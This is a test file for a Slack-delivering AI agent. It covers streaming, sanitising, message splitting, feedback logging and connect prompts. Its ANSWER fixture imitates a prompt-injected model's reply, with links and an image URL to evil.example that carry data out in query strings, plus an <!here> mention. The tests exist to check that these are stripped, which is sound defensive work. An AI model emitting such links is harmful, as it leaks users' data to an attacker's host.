import assert from 'node:assert/strict';
import { z } from 'zod';
import { createAgent } from '../../src/agent';
import { defineTool } from '../../src/tools/types';
import { call, text } from '../fakes/gemini/server';
import { ADA_SLACK, type AgentWorld, DM, startAgentWorld } from './harness';

const MEET = 'https://meet.google.com/abc-defg-hij';
const meeting = defineTool({
  name: 'get_meeting',
  description: 'test tool: the next meeting',
  input: z.object({}),
  scopes: [],
  sideEffect: false,
  handler: async () => ({ title: 'Design review', meetLink: MEET }),
});

// What a prompt-injected model might write: a real link from the data, and data smuggled into others.
const ANSWER = [
  `Your next meeting is **Design review**: [join](${MEET}).`,
  'Details: [report](https://evil.example/c?d=design%20review) ![x](https://evil.example/p.png?d=1)',
  'Also see https://evil.example/?q=secret and <!here>.',
  '',
].join('\n');

describe('agent: Slack delivery', () => {
  let w: AgentWorld;
  beforeEach(async () => {
    w = await startAgentWorld({ tools: [meeting] });
  });
  afterEach(() => w.close());

  it('in a thread: "is thinking…" and tool-step status, then the answer streamed, sanitised, with feedback', async () => {
    w.gemini.push(call('get_meeting'), text(ANSWER, 6));
    await w.dm('what is my next meeting?', { thread_ts: '1700000000.000100' });
    const s = w.t.slack.state;
    assert.equal(w.gemini.requests[1].method, 'streamGenerateContent');
    const statuses = s.callsTo('assistant.threads.setStatus').map((c) => c.args.status);
    assert.equal(statuses[0], 'is thinking…');
    assert.ok(
      statuses.some((st) => String(st).includes('working on it')),
      JSON.stringify(statuses),
    );
    const [start] = s.callsTo('chat.startStream');
    assert.equal(start.args.thread_ts, '1700000000.000100');
    assert.equal(start.args.recipient_user_id, ADA_SLACK);
    const streamed = s.messages.find((m) => m.ts === s.callsTo('chat.stopStream')[0]?.args.ts);
    assert.ok(streamed, 'the stream was stopped');
    assert.ok(streamed.text?.includes(`[join](${MEET})`), streamed.text);
    assert.doesNotMatch(streamed.text ?? '', /evil\.example|<!here>/);
    assert.match(streamed.text ?? '', /\(image: x\)/);
    assert.match(JSON.stringify(streamed.blocks), /feedback_buttons/);
    // Every piece Slack received was already clean: nothing leaked in an intermediate append.
    const sent = [
      ...s.callsTo('chat.startStream'),
      ...s.callsTo('chat.appendStream'),
      ...s.callsTo('chat.stopStream'),
    ];
    // (ChatStreamer sends text as markdown_text chunks; either form is checked.)
    assert.ok(
      sent.some((c) => JSON.stringify(c.args.chunks ?? '').includes('join')),
      'the text went out in chunks',
    );
    for (const c of sent)
      assert.doesNotMatch(JSON.stringify([c.args.markdown_text, c.args.chunks]), /evil\.example/);
  });

  it('top level: one posted mrkdwn message, same sanitising, never unfurled', async () => {
    w.gemini.push(call('get_meeting'), text(ANSWER));
    await w.dm('what is my next meeting?');
    const post = w.t.slack.state.callsTo('chat.postMessage').at(-1);
    const body = JSON.stringify(post?.args);
    assert.match(body, new RegExp(`<${MEET}\\|join>`));
    assert.doesNotMatch(body, /evil\.example/);
    assert.equal(String(post?.args.unfurl_links), 'false');
    assert.equal(String(post?.args.unfurl_media), 'false');
  });

  it('a link the tools returned in an earlier turn stays linkable in a follow-up', async () => {
    w.gemini.push(call('get_meeting'), text('Design review it is.'));
    await w.dm('next meeting?', { thread_ts: '1700000000.000200' });
    w.gemini.push(text(`Here it is: ${MEET}\n`));
    await w.dm('what was the link?', { thread_ts: '1700000000.000200' });
    const last = w.t.slack.state.messages.filter((m) => m.thread_ts === '1700000000.000200').at(-1);
    assert.match(last?.text ?? '', new RegExp(MEET));
  });

  it('a long answer is split under Slack limits', async () => {
    const para = `${'All work and no play. '.repeat(120)}\n\n`;
    w.gemini.push(text(para.repeat(12)));
    await w.dm('tell me a lot');
    const posts = w.t.slack.state
      .callsTo('chat.postMessage')
      .filter((c) => String(c.args.text).includes('All work'));
    assert.ok(posts.length >= 2, `${posts.length} messages`);
    for (const p of posts) {
      for (const b of p.args.blocks as { text?: { text: string } }[])
        assert.ok((b.text?.text.length ?? 0) <= 3000);
    }
    assert.match(JSON.stringify(posts.at(-1)?.args.blocks), /feedback_buttons/);
    assert.doesNotMatch(JSON.stringify(posts[0].args.blocks), /feedback_buttons/);
  });

  it('feedback clicks are logged with who and where', async () => {
    await w.t.action({
      userId: ADA_SLACK,
      actionId: 'lume_answer_feedback',
      value: 'bad',
      container: { type: 'message', channelId: DM, messageTs: '1700000000.000300' },
    });
    const line = await w.t.logs.waitFor((l) => l.msg === 'answer feedback');
    assert.equal(line.feedback, 'bad');
    assert.equal(line.slackUserId, ADA_SLACK);
    assert.equal(line.messageTs, '1700000000.000300');
  });

  it('a mention from someone not connected gets the connect link ephemerally, never in the channel', async () => {
    const agent = createAgent(w.t.ctx, w.t.ports);
    await agent.handle({
      teamId: w.t.who.teamId,
      slackUserId: 'U0EVE',
      channelId: 'C0GENERAL',
      threadTs: '1700000000.000400',
      text: 'what is on today?',
      source: 'mention',
    });
    const [prompt] = w.t.slack.state.messages.filter((m) => m.channel === 'C0GENERAL');
    assert.equal(prompt.ephemeralTo, 'U0EVE');
    assert.match(JSON.stringify(prompt.blocks), /link=/);
    assert.equal(w.gemini.requests.length, 0);
  });
});
